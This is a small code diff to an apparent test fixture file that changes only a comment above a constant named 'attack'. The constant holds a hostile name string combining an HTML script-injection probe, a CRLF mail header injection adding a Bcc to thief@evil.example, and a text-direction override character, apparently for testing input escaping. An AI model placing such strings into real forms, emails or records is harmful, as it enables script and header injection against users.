@@ -11,7 +11,7 @@ import type {
 
 export const home = 'https://tern.example'
 export const link = `${home}/somewhere#token=abc-DEF_123&from=%2Fsend`
-/** What somebody who chooses a name may make of it. */
+/** A name that attacks HTML, mail headers and text direction. */
 export const attack = `"><script>alert('1')</script>&\r\nBcc: thief@evil.example\u202E`
 const at = new Date('2026-03-05T23:04:59Z')
 
